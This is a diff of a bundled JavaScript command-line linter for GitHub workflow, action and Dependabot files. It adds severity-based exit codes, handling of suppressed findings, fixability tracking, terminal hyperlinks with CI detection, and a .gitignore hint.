-  if (options.fix && targets2.some((target) => target.path === STDIN_PATH)) io.stderr.write(`${TOOL_NAME}: note: standard input is analysed but not fixed
+  if (options.fix && targets3.some((target) => target.path === STDIN_PATH)) io.stderr.write(`${TOOL_NAME}: note: standard input is analysed but not fixed
 `);
   const threshold = SEVERITIES.indexOf(effectiveMinSeverity);
   for (const config of usedConfigs) {
@@ -18789,7 +19391,7 @@ Try '${TOOL_NAME} --help' for more information.
   sortResults(results);
   if (options.fix) {
     const verb = options.dryRun ? "would fix" : "fixed";
-    for (const report of fixReports) io.stderr.write(`${TOOL_NAME}: ${verb} ${escapeText(report)}
+    for (const report2 of fixReports) io.stderr.write(`${TOOL_NAME}: ${verb} ${escapeText(report2)}
 `);
     for (const path of escapedDiffs) {
       io.stderr.write(`${TOOL_NAME}: note: the diff of ${escapeText(path)} shows control or bidirectional characters escaped (\\xNN, \\uNNNN); it does not apply as is
@@ -18801,30 +19403,62 @@ Try '${TOOL_NAME} --help' for more information.
   if (options.dryRun) {
     io.stdout.write(diff);
   } else {
-    io.stdout.write(render(options, io, results));
+    io.stdout.write(render(options, io, results, { online, nothingRead: targets3.length === 0 && errors.length > 0 }));
   }
   for (const error of errors) io.stderr.write(`${TOOL_NAME}: error: ${escapeText(error)}
 `);
-  if (targets2.length === 0 && errors.length === 0) {
-    io.stderr.write(`${TOOL_NAME}: no workflow, action or Dependabot files found in ${options.paths.length ? escapeText(options.paths.join(", ")) : "the current folder"}
+  if (targets3.length === 0 && errors.length === 0) {
+    const hint = ignored > 0 ? ` (${ignored} ${ignored === 1 ? "entry" : "entries"} left out by .gitignore files; --collect all includes them)` : "";
+    io.stderr.write(`${TOOL_NAME}: no workflow, action or Dependabot files found in ${options.paths.length ? escapeText(options.paths.join(", ")) : "the current folder"}${hint}
 `);
   }
   if (errors.length > 0) return EXIT_ERROR;
   const remaining = results.some((result) => result.findings.length > 0);
-  if (options.dryRun) return remaining || changedFiles > 0 ? EXIT_FINDINGS : EXIT_OK;
-  return remaining ? EXIT_FINDINGS : EXIT_OK;
+  const found = options.exitCodes === "severity" ? severityExitCode(results) : EXIT_FINDINGS;
+  if (options.dryRun) return remaining ? found : changedFiles > 0 ? EXIT_FINDINGS : EXIT_OK;
+  return remaining ? found : EXIT_OK;
 }
-function render(options, io, results) {
+var SEVERITY_EXIT_CODES = { informational: 11, low: 12, medium: 13, high: 14 };
+function severityExitCode(results) {
+  let highest = -1;
+  for (const result of results) for (const finding of result.findings) highest = Math.max(highest, SEVERITIES.indexOf(finding.severity));
+  return highest < 0 ? EXIT_OK : SEVERITY_EXIT_CODES[SEVERITIES[highest]];
+}
+function separateSuppressed(result, noIgnores) {
+  if (!result.findings.some(isSuppressed)) return;
+  if (noIgnores) {
+    for (const finding of result.findings) if (isSuppressed(finding)) delete finding.suppression;
+    return;
+  }
+  result.suppressed = result.findings.filter(isSuppressed);
+  result.findings = result.findings.filter((finding) => !isSuppressed(finding));
+}
+function recordFixability(result) {
+  const safe = acceptFix("safe");
+  const all = acceptFix("all");
+  for (const finding of result.findings) {
+    const fixes = finding.fixes;
+    const fixability = fixes.some(safe) ? "safe" : fixes.some(all) ? "unsafe" : void 0;
+    if (fixability) (result.fixability ??= /* @__PURE__ */ new Map()).set(finding, fixability);
+    finding.fixes = [];
+  }
+}
+function render(options, io, results, run2) {
   switch (options.format) {
     case "json":
-      return formatJson(results, { persona: options.persona, minSeverity: options.minSeverity, offline: options.offline });
+      return formatJson(results, { persona: options.persona, minSeverity: options.minSeverity, offline: options.offline, online: run2.online });
     case "sarif":
       return formatSarif(results);
     case "github":
       return formatGithub(results);
     default: {
       const color = useColor(options, io);
-      return formatText(results, { color, codeFrame: options.codeFrame && (io.stdout.isTTY === true || options.forceColor) });
+      return formatText(results, {
+        color,
+        codeFrame: options.codeFrame && (io.stdout.isTTY === true || options.forceColor),
+        hyperlinks: useHyperlinks(options, io),
+        summary: !run2.nothingRead
+      });
     }
   }
 }
@@ -18856,6 +19490,19 @@ function useColor(options, io) {
   if (!options.color || io.env.NO_COLOR !== void 0 && io.env.NO_COLOR !== "") return false;
   return io.stdout.isTTY === true;
 }
+function useHyperlinks(options, io) {
+  const env = io.env;
+  if (!options.color || env.NO_COLOR !== void 0 && env.NO_COLOR !== "") return false;
+  if (io.stdout.isTTY !== true) return false;
+  if (isCi(env)) return false;
+  const term = env.TERM ?? "";
+  return term !== "dumb" && term !== "linux";
+}
+function isCi(env) {
+  const ci = env.CI;
+  if (ci !== void 0 && ci !== "" && ci !== "0" && ci.toLowerCase() !== "false") return true;
+  return ["GITHUB_ACTIONS", "BUILDKITE", "TF_BUILD", "GITLAB_CI", "JENKINS_URL", "TEAMCITY_VERSION", "CIRCLECI"].some((name) => Boolean(env[name]));
+}
 function main(argv) {
   return run(argv, {
     cwd: process.cwd(),
@@ -18866,7 +19513,7 @@ function main(argv) {
   });
 }
 async function readStdin() {
-  if ((0, import_node_fs8.fstatSync)(0).isDirectory()) throw Object.assign(new Error("standard input is a folder"), { code: "EISDIR" });
+  if ((0, import_node_fs9.fstatSync)(0).isDirectory()) throw Object.assign(new Error("standard input is a folder"), { code: "EISDIR" });
   const chunks = [];
   for await (const chunk of process.stdin) chunks.push(typeof chunk === "string" ? Buffer.from(chunk) : chunk);
   return Buffer.concat(chunks);
